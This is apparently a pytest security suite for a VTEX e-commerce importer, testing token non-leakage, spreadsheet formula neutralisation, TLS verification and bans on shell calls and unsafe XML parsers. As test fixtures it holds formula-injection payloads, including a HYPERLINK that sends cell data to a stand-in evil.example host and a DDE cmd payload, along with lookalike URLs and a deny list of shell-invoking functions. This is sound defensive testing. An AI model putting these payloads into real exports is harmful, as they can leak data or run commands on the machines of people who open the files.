"""Security (issue 5, part 7).

- The app token (and key) never appear in anything the importer writes or prints: every flow
  runs as a real subprocess against the sandbox on a loopback port, with VTEX misbehaving
  (429, 5xx, timeouts), bad rows, a wrong token (401), configuration errors and a crash, and
  then every byte of state/ (SQLite database and log included), outbox/, archive/, the inbox,
  stdout/stderr, exception text and the sandbox's request log is searched.
- Cells a spreadsheet would evaluate as formulas are written as text in every file we write:
  reports, orders (CSV and XLSX) and cancellations.
- TLS is verified: a self-signed certificate on loopback is refused; plain http:// is refused
  except to loopback.
- No XML parser is used that bypasses the workbook guard, and nothing is passed to a shell.
"""

from __future__ import annotations

import ast
import asyncio
import csv
import http.server
import os
import socket
import ssl
import threading
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import httpx
import pytest
from openpyxl import load_workbook

from importer.config import VtexSettings, load_settings
from importer.errors import ConfigError, VtexError
from importer.models import Action, FileReport, FileSummary, ReportRow
from importer.orders.export import (
    money,
    read_cancellations,
    temp_path,
    write_cancellations_temp,
)
from importer.orders.run import pull_orders
from importer.report import read_report_csv, write_report
from importer.sandbox import Faults, Sandbox
from importer.vtex.http import Api, VtexHttp, check_base_url
from importer.vtex.timing import VirtualClock
from tests.conftest import RuntimeFactory, drop, one_pass, seed_store
from tests.reliability.drop_kit import archived, make_workdir
from tests.reliability.live import LiveSandbox, start_importer

ROOT = Path(__file__).resolve().parents[2]
KEY = "vtexappkey-teststore-KEY7Q2W9E"
TOKEN = "TOKEN-s3cr3t-9f8e7d6c5b4a3f2e1d0c-DO-NOT-LEAK"
WRONG_TOKEN = "TOKEN-wr0ng-0a1b2c3d4e5f6a7b8c9d-DO-NOT-LEAK"
SECRETS = (TOKEN, WRONG_TOKEN)
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"ok")', "+1+1", "-2+3", "@SUM(A1:A2)"]


# --- 1. the token in every output ---------------------------------------------------------


def secret_env(token: str = TOKEN, **extra: str) -> dict[str, str]:
    return {"VTEX_APP_KEY": KEY, "VTEX_APP_TOKEN": token, **extra}


def inject_crash(folder: Path) -> Path:
    """A `sitecustomize` that makes building the HTTP client fail: a crash nobody catches, in
    the frame where the app token is a local variable."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "sitecustomize.py").write_text(
        "import httpx\n\n\n"
        "def _refuse(self, *args, **kwargs):\n"
        "    raise RuntimeError('injected: the HTTP client could not be built')\n\n\n"
        "httpx.AsyncClient.__init__ = _refuse\n",
        encoding="utf-8",
    )
    return folder


def every_byte_under(folder: Path) -> Iterator[tuple[str, bytes]]:
    """Every file's bytes, and those of every member of a zip (an XLSX report compresses
    its cells: its raw bytes would hide a leak)."""
    for path in sorted(folder.rglob("*")):
        if not path.is_file():
            continue
        data = path.read_bytes()
        yield str(path), data
        if zipfile.is_zipfile(path):
            with zipfile.ZipFile(path) as book:
                for member in book.namelist():
                    yield f"{path}!{member}", book.read(member)


def leaks(secret: str, blob: bytes) -> bool:
    """The secret as UTF-8 or UTF-16 (how a workbook or a Windows tool might hold it)."""
    forms = {secret.encode("utf-8"), secret.encode("utf-16-le"), secret.encode("utf-16-be")}
    return any(form in blob for form in forms)


@pytest.mark.slow
def test_the_app_token_never_appears_in_any_output(tmp_path: Path) -> None:
    sandbox = Sandbox(account="teststore", app_key=KEY, app_token=TOKEN)
    sandbox.seed_demo()
    to_pull = sandbox.seed_orders(2, queue=True)
    to_invoice = sandbox.seed_orders(2, queue=False)
    for order_id in to_invoice:  # already pulled and in handling: ready for their invoices
        sandbox.set_order_status(order_id, "handling", queue=False)
    # ~100 requests: at these rates each kind of fault is all but certain to happen (the
    # order of arrival, and so which request draws which fault, varies from run to run).
    sandbox.faults = Faults(rate_429=0.1, rate_5xx=0.1, rate_timeout=0.07, retry_after=0.01)
    fast = {"IMPORTER__VTEX__TIMEOUT_S": "0.25"}  # a timed-out request ends when we give up

    flows = make_workdir(tmp_path / "flows", settle_s=0, scan_interval_s=0.2)
    # Every file flow, with bad rows (formula-like values among them).
    drop(
        flows,
        "prices",
        "precos.csv",
        "sku_ref,base_price,list_price\n"
        + "".join(f"DEMO-{i:03d},{i}.90,{i + 5}.90\n" for i in range(1, 16))
        + "DEMO-016,abc,\n"
        + "".join(f'"{f.replace(chr(34), chr(34) * 2)}",1.00,\n' for f in FORMULAS),
    )
    drop(
        flows,
        "inventory",
        "estoque.csv",
        "sku_ref,warehouse_id,quantity\n"
        + "".join(f"DEMO-{i:03d},1_1,{i * 3}\n" for i in range(1, 16))
        + "DEMO-016,1_1,-5\nDEMO-017,NOWHERE,1\n",
    )
    catalog = (ROOT / "samples" / "catalog.csv").read_text("utf-8").splitlines(keepends=True)
    drop(flows, "catalog", "catalogo.csv", "".join(catalog[:3]))  # one product, two SKUs
    drop(
        flows,
        "invoices",
        "notas.csv",
        "order_id,invoice_number,invoice_value,issuance_date\n"
        + "".join(
            f"{o},NF{n},{money(sandbox.orders[o]['value'])},2026-11-27T10:00:00Z\n"
            for n, o in enumerate(to_invoice, start=1)
        )
        + "1234567890-01,NF9,10.00,2026-11-27T10:00:00Z\n",
    )
    orders = make_workdir(tmp_path / "orders", settle_s=0, scan_interval_s=0.2)
    wrong = make_workdir(tmp_path / "wrong", settle_s=0, scan_interval_s=0.2)
    drop(wrong, "prices", "precos.csv", "sku_ref,base_price\nDEMO-001,1.00\n")
    plain_http = make_workdir(tmp_path / "plain-http", settle_s=0, scan_interval_s=0.2)
    crash = make_workdir(tmp_path / "crash", settle_s=0, scan_interval_s=0.2)
    runs = {  # name: (folder, command, environment)
        "every flow": (flows, ["run"], secret_env(**fast)),
        "orders pull": (orders, ["orders", "pull"], secret_env(**fast)),
        "wrong token": (wrong, ["run"], secret_env(WRONG_TOKEN)),
        "plain http to a remote host": (
            plain_http,
            ["run"],
            secret_env(VTEX_BASE_URL="http://vtex.example.com:8080"),
        ),
        # An exception nobody catches, raised where the token is a local variable (building
        # the HTTP client), ends the command with a traceback: it must not show the token.
        "crash": (
            crash,
            ["orders", "pull"],
            secret_env(
                VTEX_BASE_URL="https://127.0.0.1:9",
                PYTHONPATH=os.pathsep.join([str(inject_crash(tmp_path / "inject")), str(ROOT)]),
            ),
        ),
    }
    with LiveSandbox(sandbox) as live:
        # Independent folders, so all at once: one start-up's worth of wall time.
        started = {
            name: start_importer(args, folder, live.url, env)
            for name, (folder, args, env) in runs.items()
        }
        done = {name: (p.wait(timeout=120), *p.communicate()) for name, p in started.items()}

    code, _, err = done["every flow"]
    assert code == 1, err[-3000:]  # bad rows need a person
    assert sorted(archived(flows)) == ["catalogo.csv", "estoque.csv", "notas.csv", "precos.csv"]
    assert sandbox.prices[1]["basePrice"] == Decimal("1.90")
    assert done["orders pull"][0] in (0, 1), done["orders pull"]
    assert {sandbox.order_status(o) for o in to_pull} == {"handling"}
    assert {sandbox.order_status(o) for o in to_invoice} == {"invoiced"}
    assert done["wrong token"][0] == 3, done["wrong token"]
    code, _, err = done["plain http to a remote host"]
    assert code == 2 and "http://vtex.example.com:8080" in err and "refused" in err, err
    code, _, err = done["crash"]
    assert code == 1 and "injected: the HTTP client could not be built" in err, err[-3000:]
    # The faults really happened.
    faults = {r.fault for r in sandbox.requests if r.fault}
    assert {"429", "timeout"} <= faults and faults & {"500", "502", "503"}, faults
    assert any(r.status == 401 for r in sandbox.requests)

    # Now search everything: every file the importer wrote or kept, SQLite database and log
    # included, what it printed, and what the sandbox logged of its requests.
    blobs: list[tuple[str, bytes]] = []
    for folder, _, _ in runs.values():
        blobs += every_byte_under(folder)
    assert any(name.endswith("importer.sqlite3") for name, _ in blobs)
    assert any(name.endswith("importer.log") for name, _ in blobs)
    assert any(name.endswith(".report.xlsx!xl/worksheets/sheet1.xml") for name, _ in blobs)
    for name, (_code, out, err) in done.items():
        blobs += [(f"{name}: stdout", out.encode()), (f"{name}: stderr", err.encode())]
    blobs += [("sandbox request log", repr(sandbox.requests).encode())]
    for secret in SECRETS:
        leaked = [name for name, data in blobs if leaks(secret, data)]
        assert leaked == [], f"{secret[:10]}... found in {leaked}"
    # The key is not secret to VTEX (its request log keeps it), but the importer's own
    # outputs never show it either.
    ours = [name for name, data in blobs if name != "sandbox request log" and leaks(KEY, data)]
    assert ours == [], f"the app key found in {ours}"

    # Formula-like values from the file are in the report, as text.
    [report_csv] = (flows / "outbox" / "reports").glob("precos.csv.*.report.csv")
    keys = {row["key"] for row in read_report_csv(report_csv)}
    assert {"'" + f for f in FORMULAS} <= keys


def test_a_token_in_the_config_file_is_refused_without_repeating_it(tmp_path: Path) -> None:
    (tmp_path / "importer.toml").write_text(f'[vtex]\napp_token = "{TOKEN}"\n', "utf-8")
    with pytest.raises(ConfigError) as refused:
        load_settings(cwd=tmp_path, environ={})
    assert "vtex.app_token must not be in the file" in str(refused.value)
    assert "VTEX_APP_TOKEN" in str(refused.value)  # where it belongs instead
    assert TOKEN not in str(refused.value) and TOKEN not in repr(refused.value)


def test_vtex_errors_carry_no_credentials() -> None:
    """The exceptions a VTEX failure raises (what reports and logs are made of): status and
    path, never the token, whatever VTEX answers."""

    def vtex(request: httpx.Request) -> httpx.Response:
        assert request.headers["X-VTEX-API-AppToken"] == TOKEN  # it is sent, as it must be
        status = int(request.url.path.rsplit("/", 1)[-1])
        if status == 0:
            raise httpx.ReadTimeout("timed out", request=request)
        if status == 1:
            raise httpx.ConnectError("connection refused", request=request)
        return httpx.Response(status, json={"Message": f"refused with {status}"})

    settings = VtexSettings(
        account="teststore",
        base_url="http://127.0.0.1:1",
        max_attempts=1,
        backoff_initial_s=0,
        backoff_max_s=0,
    )
    texts: list[str] = []

    async def main() -> None:
        async with VtexHttp(
            settings,
            app_key=KEY,
            app_token=TOKEN,
            transport=httpx.MockTransport(vtex),
            clock=VirtualClock(),  # a 429 pauses the API: on virtual time, not the test's
        ) as client:
            for status in (401, 403, 400, 404, 429, 500, 503, 0, 1):
                with pytest.raises(VtexError) as caught:
                    await client.request(Api.PRICING, "PUT", f"/pricing/prices/{status}", body={})
                exc = caught.value
                texts.extend([str(exc), repr(exc), repr(exc.args), str(vars(exc))])

    asyncio.run(main())
    assert texts and all(TOKEN not in t and KEY not in t for t in texts)


# --- 2. formulas in every file we write ---------------------------------------------------

# What a spreadsheet evaluates when a CSV cell starts with it (OWASP), plus LF and the
# full-width forms Excel folds to ASCII; a leading space does not hide them.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
EVIL = [
    *FORMULAS,
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
    "-1+2",
    "＝1+1",
    "＋1+1",
    "－1+2",
    "＠SUM(A1:A2)",
    " =1+1",
    "+5511987654321",
]


def assert_csv_cells_are_text(cells: list[str], evil: list[str]) -> None:
    """No cell starts with a trigger (after spaces); each evil value is there once quoted."""
    assert not [c for c in cells if c.lstrip(" ").startswith(TRIGGERS)]
    assert {"'" + v for v in evil} <= set(cells)


def assert_xlsx_cells_are_text(path: Path, evil: list[str]) -> int:
    """Every evil value is a string cell holding exactly what was typed (no apostrophe), with
    Excel's quote prefix so that retyping keeps it text; no sheet has a formula element.
    Returns how many evil cells were seen."""
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    book = load_workbook(path)  # not read-only: cell types and styles are what matter
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value in evil:
                    assert cell.data_type == "s", (sheet.title, cell.coordinate)
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    seen += 1
                if isinstance(cell.value, str):
                    assert not (cell.value.startswith("'") and cell.value[1:] in evil), cell.value
    return seen


def test_report_cells_that_would_be_formulas_are_written_as_text(tmp_path: Path) -> None:
    summary = FileSummary(
        file="=HYPERLINK(1).csv",
        flow="prices",
        sha256="0" * 64,
        received_at=datetime(2026, 11, 27, 6, 0, tzinfo=UTC),
        account="teststore",
        status="done",
        error="@SUM(1)",
    )
    rows = [
        ReportRow(i + 2, value, Action.INVALID, "-col", value, "+reason", None, "=type")
        for i, value in enumerate(EVIL)
    ]
    xlsx_path, csv_path = write_report(FileReport(summary, rows), tmp_path)

    with csv_path.open(encoding="utf-8-sig", newline="") as fh:
        cells = [cell for line in csv.reader(fh) for cell in line]
    assert_csv_cells_are_text(cells, EVIL)
    assert {"'-col", "'+reason", "'=type"} <= set(cells)

    seen = assert_xlsx_cells_are_text(xlsx_path, [*EVIL, "-col", "+reason", "=type", "@SUM(1)"])
    # key, value, column, reason and type on every row, the summary's error, and the type's
    # line under the summary's "errors by type".
    assert seen == 5 * len(EVIL) + 2


def _evil_order(sandbox: Sandbox, name: str, phone: str) -> str:
    order = sandbox.add_order(
        client={"firstName": name, "lastName": "-1+2", "email": "@x.example", "phone": phone},
        address={"street": "\t=1+1", "complement": "－1+2", "city": "＝1+1", "number": " =2"},
        queue=True,
    )
    return str(order["orderId"])


ORDER_EVIL = ["=HYPERLINK(1) -1+2", "@x.example", "\t=1+1", "－1+2", "＝1+1", " =2", "+1+1"]


def test_orders_csv_cells_from_shoppers_never_run_as_formulas(
    workdir: Path, sandbox: Sandbox, make_runtime: RuntimeFactory
) -> None:
    seed_store(sandbox, 3)
    _evil_order(sandbox, "=HYPERLINK(1)", "+1+1")
    result = pull_orders(make_runtime(sandbox).deps)

    with result.files[0].open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    cells = [c for r in rows for c in r.values()]
    assert_csv_cells_are_text(cells, ORDER_EVIL)
    # Amounts are numbers we write as numbers: a negative one would stay as it is.
    assert Decimal(rows[0]["order_total"]) > 0


def test_orders_xlsx_holds_shoppers_text_as_typed_and_never_a_formula(
    workdir: Path, sandbox: Sandbox, make_runtime: RuntimeFactory
) -> None:
    seed_store(sandbox, 3)
    _evil_order(sandbox, "=HYPERLINK(1)", "+1+1")
    runtime = make_runtime(sandbox, {"IMPORTER__ORDERS__FILE_FORMAT": "xlsx"})
    result = pull_orders(runtime.deps)

    assert assert_xlsx_cells_are_text(result.files[0], ORDER_EVIL) >= len(ORDER_EVIL)


def test_cancellations_csv_is_neutralised(tmp_path: Path) -> None:
    notices: list[dict[str, object]] = [
        {"order_id": value, "state": "canceled", "last_change": value, "exported_in": value}
        for value in EVIL
    ]
    path = write_cancellations_temp(tmp_path, datetime(2026, 12, 3, tzinfo=UTC), notices)

    with temp_path(path).open(encoding="utf-8-sig", newline="") as fh:
        cells = [cell for line in csv.reader(fh) for cell in line]
    assert_csv_cells_are_text(cells, EVIL)
    # Recovery after a crash matches the notices with the ledger: they read back as given.
    assert read_cancellations(temp_path(path)) == notices


# --- 3. TLS -------------------------------------------------------------------------------


class _Answer(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.server.requests.append(self.path)  # type: ignore[attr-defined]
        body = b"{}"
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


class _TlsServer(http.server.ThreadingHTTPServer):
    """HTTPS on loopback with a certificate from a throwaway CA; counts refused handshakes."""

    daemon_threads = True

    def __init__(self, context: ssl.SSLContext) -> None:
        self.context = context
        self.requests: list[str] = []
        self.refused = 0
        super().__init__(("127.0.0.1", 0), _Answer)

    def get_request(self) -> tuple[socket.socket, object]:
        sock, address = self.socket.accept()
        try:
            return self.context.wrap_socket(sock, server_side=True), address
        except OSError:
            self.refused += 1
            sock.close()
            raise


@pytest.fixture
def self_signed(tmp_path: Path) -> Iterator[tuple[_TlsServer, Path]]:
    trustme = pytest.importorskip("trustme")
    ca = trustme.CA()
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    ca.issue_cert("127.0.0.1").configure_cert(context)
    ca_file = tmp_path / "ca.pem"
    ca.cert_pem.write_to_path(str(ca_file))
    server = _TlsServer(context)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    yield server, ca_file
    server.shutdown()
    thread.join(timeout=5)
    server.server_close()


def test_a_self_signed_certificate_is_refused(
    workdir: Path,
    sandbox: Sandbox,
    make_runtime: RuntimeFactory,
    self_signed: tuple[_TlsServer, Path],
) -> None:
    server, ca_file = self_signed
    url = f"https://127.0.0.1:{server.server_address[1]}"
    # The server works: a client that trusts its CA gets an answer.
    assert httpx.get(url + "/ping", verify=ssl.create_default_context(cafile=ca_file)).is_success
    assert server.requests == ["/ping"]

    runtime = make_runtime(sandbox, {"VTEX_BASE_URL": url, **secret_env()})
    drop(workdir, "prices", "precos.csv", "sku_id,base_price\n1,10.00\n")
    result = one_pass(runtime)
    assert server.refused >= 1  # it tried, and the handshake failed on its side
    assert server.requests == ["/ping"]  # not one request (nor the token) went through
    # No answer from a VTEX it can trust: the check before taking files fails, nothing is
    # claimed (the file waits in the inbox for a VTEX that answers).
    assert result.vtex_failure is not None and result.vtex_failure.kind == "no-answer"
    assert result.reports == [] and (workdir / "inbox" / "prices" / "precos.csv").exists()
    assert sandbox.requests == []


def test_the_client_verifies_certificates_and_hostnames() -> None:
    settings = VtexSettings(account="teststore")  # the real VTEX hosts: https
    client = VtexHttp(settings, app_key=KEY, app_token=TOKEN)
    # httpx keeps the SSL context on its connection pool (httpx 0.28: private attributes).
    context = client._client._transport._pool._ssl_context  # type: ignore[attr-defined]
    assert context.verify_mode == ssl.CERT_REQUIRED
    assert context.check_hostname is True
    asyncio.run(client.__aexit__())


def test_every_client_shares_one_verifying_context_until_the_trust_store_changes(
    monkeypatch: pytest.MonkeyPatch, self_signed: tuple[_TlsServer, Path]
) -> None:
    """A pass opens a client for its check and one per file; each would otherwise parse the
    whole CA bundle again. A changed SSL_CERT_FILE is a new trust store, not the cached one."""
    settings = VtexSettings(account="teststore")
    monkeypatch.delenv("SSL_CERT_FILE", raising=False)
    monkeypatch.delenv("SSL_CERT_DIR", raising=False)
    first, second = (VtexHttp(settings, app_key=KEY, app_token=TOKEN) for _ in range(2))
    shared = first._client._transport._pool._ssl_context  # type: ignore[attr-defined]
    assert second._client._transport._pool._ssl_context is shared  # type: ignore[attr-defined]
    assert shared.verify_mode == ssl.CERT_REQUIRED and shared.check_hostname is True

    _, ca_file = self_signed
    monkeypatch.setenv("SSL_CERT_FILE", str(ca_file))
    third = VtexHttp(settings, app_key=KEY, app_token=TOKEN)
    own = third._client._transport._pool._ssl_context  # type: ignore[attr-defined]
    assert own is not shared and own.verify_mode == ssl.CERT_REQUIRED
    assert len(own.get_ca_certs()) == 1  # the bundle SSL_CERT_FILE names, not certifi's
    for client in (first, second, third):
        asyncio.run(client.__aexit__())


def tls_downgrades(source: str) -> list[str]:
    """`verify=False`, an unverified SSL context, CERT_NONE, `check_hostname = False`."""
    found: list[str] = []
    for node in ast.walk(ast.parse(source)):
        line = getattr(node, "lineno", 0)
        if isinstance(node, ast.keyword) and node.arg in ("verify", "check_hostname"):
            if isinstance(node.value, ast.Constant) and node.value.value is False:
                found.append(f"{line}: {node.arg}=False")
        elif isinstance(node, ast.Attribute) and node.attr in (
            "CERT_NONE",
            "_create_unverified_context",
        ):
            found.append(f"{line}: {node.attr}")
        elif isinstance(node, ast.Assign) and any(
            isinstance(t, ast.Attribute) and t.attr == "check_hostname" for t in node.targets
        ):
            found.append(f"{line}: check_hostname = ...")
    return found


@pytest.mark.slow
def test_no_code_turns_certificate_checks_off() -> None:
    """Whatever client is built, anywhere in the importer or tasks.py."""
    bad = "httpx.Client(verify=False)\nctx.check_hostname = False\nssl.CERT_NONE\n"
    assert len(tls_downgrades(bad)) == 3  # the scanner finds what it looks for
    found = {
        str(path.relative_to(ROOT)): downgrades
        for path in python_files()
        if (downgrades := tls_downgrades(path.read_text(encoding="utf-8")))
    }
    assert found == {}


@pytest.mark.parametrize(
    "url",
    ["http://127.0.0.1:8700", "http://[::1]:8700", "http://localhost:8700", "https://x.example"],
)
def test_plain_http_is_accepted_for_loopback_only(url: str) -> None:
    assert check_base_url(url) == url


@pytest.mark.parametrize(
    "url",
    [
        "http://vtex.example.com",
        "http://10.0.0.5:8700",
        "http://127.0.0.1.evil.example",
        "http://localhost.evil.example",
        "http://127.0.0.1@evil.example/",
        "ftp://127.0.0.1",
        "127.0.0.1:8700",
    ],
)
def test_plain_http_to_anything_else_is_a_config_error(url: str) -> None:
    with pytest.raises(ConfigError, match="refused"):
        check_base_url(url)


# --- 4. XML and shells: what the code itself may call -------------------------------------

PACKAGE = ROOT / "importer"
XML_PARSERS = ("xml.etree", "xml.dom", "xml.sax", "xml.parsers", "lxml", "xmlrpc")
SHELL_CALLS = {
    "os.system",
    "os.popen",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
    "asyncio.create_subprocess_shell",
    "pty.spawn",
    "eval",
    "exec",
}


def python_files() -> list[Path]:
    return [*sorted(PACKAGE.rglob("*.py")), ROOT / "tasks.py"]


def dotted(node: ast.expr) -> str:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        return f"{dotted(node.value)}.{node.attr}"
    return ""


def imports(tree: ast.AST) -> list[str]:
    found: list[str] = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            found += [alias.name for alias in node.names]
        elif isinstance(node, ast.ImportFrom) and node.module:
            found += [node.module] + [f"{node.module}.{a.name}" for a in node.names]
    return found


def shell_uses(source: str) -> list[str]:
    """Calls that hand a string to a shell or the interpreter, by their dotted name."""
    tree = ast.parse(source)
    aliases = {
        alias.asname or alias.name: f"{node.module}.{alias.name}"
        for node in ast.walk(tree)
        if isinstance(node, ast.ImportFrom) and node.module
        for alias in node.names
    }
    found: list[str] = []
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        name = dotted(node.func)
        name = aliases.get(name, name)
        if name in SHELL_CALLS:
            found.append(name)
        for keyword in node.keywords:
            if keyword.arg == "shell" and not (
                isinstance(keyword.value, ast.Constant) and keyword.value.value is False
            ):
                found.append(f"{name}(shell=...)")
    return found


def test_the_scanners_catch_what_they_look_for() -> None:
    bad = (
        "import os, subprocess\nfrom os import system as run\nimport xml.etree.ElementTree\n"
        "os.system('x')\nrun('y')\nsubprocess.run('z', shell=True)\neval('1')\n"
        "subprocess.run(['a'], shell=False)\n"
    )
    assert shell_uses(bad) == ["os.system", "os.system", "subprocess.run(shell=...)", "eval"]
    assert any(m.startswith(XML_PARSERS) for m in imports(ast.parse(bad)))


@pytest.mark.slow
def test_nothing_is_passed_to_a_shell() -> None:
    files = python_files()
    assert len(files) > 50
    found = {
        str(path.relative_to(ROOT)): uses
        for path in files
        if (uses := shell_uses(path.read_text(encoding="utf-8")))
    }
    assert found == {}


@pytest.mark.slow
def test_no_xml_parser_bypasses_the_workbook_guard() -> None:
    """Workbooks are parsed only by calamine (which never expands entities), only in
    importer/read/workbook.py, and only after check_workbook_zip has refused DTDs and zip
    bombs; no other XML parser (stdlib, lxml, openpyxl's or pandas' readers) is used."""
    parsers: dict[str, list[str]] = {}
    calamine_users: list[str] = []
    for path in python_files():
        tree = ast.parse(path.read_text(encoding="utf-8"))
        names = imports(tree)
        bad = [
            n
            for n in names
            if n.startswith(XML_PARSERS)
            or n in ("xml", "openpyxl.load_workbook")
            or n.startswith("openpyxl.reader")
        ]
        bad += [
            dotted(node.func)
            for node in ast.walk(tree)
            if isinstance(node, ast.Call)
            and dotted(node.func).endswith(("read_excel", "read_xml", "load_workbook"))
        ]
        if bad:
            parsers[str(path.relative_to(ROOT))] = bad
        if "python_calamine" in names:
            calamine_users.append(str(path.relative_to(ROOT)))
    assert parsers == {}
    assert calamine_users == ["importer/read/workbook.py"]

    from importer.read import workbook

    tree = ast.parse(Path(workbook.__file__).read_text(encoding="utf-8"))
    [entry] = [n for n in tree.body if isinstance(n, ast.FunctionDef) and n.name == "read_workbook"]
    calls = [dotted(n.func) for n in ast.walk(entry) if isinstance(n, ast.Call)]
    assert "check_workbook_zip" in calls and "_read" in calls
    assert calls.index("check_workbook_zip") < calls.index("_read")
